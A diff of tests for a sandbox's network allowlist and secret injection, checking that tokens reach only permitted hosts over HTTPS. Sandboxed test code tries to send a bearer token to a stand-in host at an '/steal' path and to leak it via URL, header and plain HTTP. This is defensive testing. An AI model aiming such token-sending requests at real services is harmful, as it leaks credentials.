@@ -171,8 +171,13 @@ import requests
 auth = {"Authorization": f"Bearer {token}"}
 print(requests.get("https://allowed.test/api", headers=auth, timeout=20).text, end="")
 print(requests.get("https://other.test/steal", headers=auth, timeout=20).text, end="")
-plain = urllib.request.Request("http://allowed.test/plain", headers=auth)
-print(urllib.request.urlopen(plain, timeout=20).read().decode(), end="")
+for url, headers in (
+    ("http://allowed.test/plain", auth),  # plain HTTP: the secret goes over HTTPS only
+    (f"https://allowed.test/echo/{token}", {}),  # in the URL: a redirect or a 404 page would echo it
+    ("https://allowed.test/x", {"X-Echo": token}),  # in a header it may not go in
+):
+    r = requests.get(url, headers=headers, timeout=20)
+    print(r.status_code, r.text.strip()[:120])
 """
     servers.seen.requests.clear()
     r = secret_root.run_code(
@@ -187,11 +192,14 @@ print(urllib.request.urlopen(plain, timeout=20).read().decode(), end="")
     assert "environ has value: False" in r.stdout
     seen = {path: headers.get("Authorization") for _, path, headers in servers.seen.requests}
     assert seen["/api"] == f"Bearer {SECRET_VALUE}"  # its host got the value, over HTTPS
-    assert seen["/plain"] == f"Bearer {SECRET_VALUE}"  # and over plain HTTP
     assert seen["/steal"] == f"Bearer {placeholder}"  # another host got the placeholder only
+    assert "/plain" not in seen and not [p for p in seen if p.startswith("/echo") or p == "/x"]  # refused
+    refused = r.stdout.splitlines()[-3:]
+    assert all(line.startswith("403 ") for line in refused), refused
+    assert "HTTPS only" in refused[0] and "request line" in refused[1] and "X-Echo" in refused[2]
     audit = r.model_dump_json()
     assert SECRET_VALUE not in audit
-    notes = {a.host + a.method: a.note for a in r.egress}
+    notes = {a.host + a.method: a.note for a in r.egress if a.allowed}
     assert "secret GITHUB_TOKEN sent" in notes["allowed.testCONNECT"]
     assert "carried the placeholder of secret GITHUB_TOKEN to other.test" in notes["other.testCONNECT"]
 
@@ -238,8 +246,8 @@ def test_front_ends_cli_api_and_agent_carry_egress_and_secrets(secret_root, serv
     }
     # the CLI
     cli = subprocess.run(
-        [sys.executable, "-m", "sandloop", "run", "--allow", "allowed.test", "--secret", "KEY=MY_KEY@allowed.test",
-         "-c", fetch.format(path="cli")],
+        [sys.executable, "-m", "sandloop", "run", "--allow", "allowed.test",
+         "--secret", "KEY=MY_KEY@allowed.test;header=X-Key;plain-http", "-c", fetch.format(path="cli")],
         capture_output=True, text=True, env=env, timeout=120,
     )  # fmt: skip
     assert cli.returncode == 0, cli.stderr
@@ -258,7 +266,9 @@ def test_front_ends_cli_api_and_agent_carry_egress_and_secrets(secret_root, serv
         body = {
             "code": fetch.format(path="api"),
             "limits": {"egress": ["allowed.test", "other.test"]},
-            "secrets": {"KEY": {"value": SECRET_VALUE, "hosts": ["allowed.test"]}},
+            "secrets": {
+                "KEY": {"value": SECRET_VALUE, "hosts": ["allowed.test"], "headers": ["X-Key"], "plain_http": True}
+            },
         }
         r = httpx.post(f"{url}/v1/runs", json=body, headers={"Authorization": f"Bearer {secret}"}, timeout=120)
     assert r.status_code == 200 and SECRET_VALUE not in r.text, r.text
@@ -269,7 +279,10 @@ def test_front_ends_cli_api_and_agent_carry_egress_and_secrets(secret_root, serv
     client = ScriptedClient([calls(code_call(fetch.format(path="agent"))), answer("done")])
     monkeypatch.setattr("sandloop.runner.default_root", lambda: secret_root)
     run_agent(
-        "fetch it", client, egress=["allowed.test"], secrets={"KEY": Secret(SECRET_VALUE, hosts=["allowed.test"])}
+        "fetch it",
+        client,
+        egress=["allowed.test"],
+        secrets={"KEY": Secret(SECRET_VALUE, hosts=["allowed.test"], headers=["X-Key"], plain_http=True)},
     )
     tool_text = str(client.transcripts[1][-1])
     assert "hello from http /agent" in tool_text and "refused: other.test:80 is not on" in tool_text
@@ -329,7 +342,7 @@ def test_a_session_reaches_its_allowlist_from_any_process_with_its_secrets(secre
             "req = urllib.request.Request('https://allowed.test/cell-secret', headers={'X-Key': os.environ['KEY']})\n"
             "urllib.request.urlopen(req, timeout=20).read().decode()"
         )
-        c = s.run_cell(secret_cell, secrets={"KEY": Secret(SECRET_VALUE, hosts=["allowed.test"])})
+        c = s.run_cell(secret_cell, secrets={"KEY": Secret(SECRET_VALUE, hosts=["allowed.test"], headers=["X-Key"])})
         assert "hello from https /cell-secret" in (c.value or ""), (c.stdout, c.stderr)
         assert SECRET_VALUE not in c.model_dump_json()
         s.close()  # this process lets go; the interpreter lives on
@@ -377,7 +390,8 @@ def test_api_sessions_take_an_allowlist_and_cells_take_secrets(secret_root, serv
         assert (refused.status_code, refused.json()["code"]) == (403, "egress_refused")
         sid = c.post("/v1/sessions", json={"quota": "16m", "limits": {"egress": ["allowed.test"]}}).json()["id"]
         try:
-            body = {"code": cell, "secrets": {"KEY": {"value": SECRET_VALUE, "hosts": ["allowed.test"]}}}
+            key = {"value": SECRET_VALUE, "hosts": ["allowed.test"], "headers": ["X-Key"], "plain_http": True}
+            body = {"code": cell, "secrets": {"KEY": key}}
             r = c.post(f"/v1/sessions/{sid}/cells", json=body)
             assert r.status_code == 200 and "hello from http /api-cell" in r.json()["value"], r.text
             assert SECRET_VALUE not in r.text and r.json()["egress"][0]["allowed"]
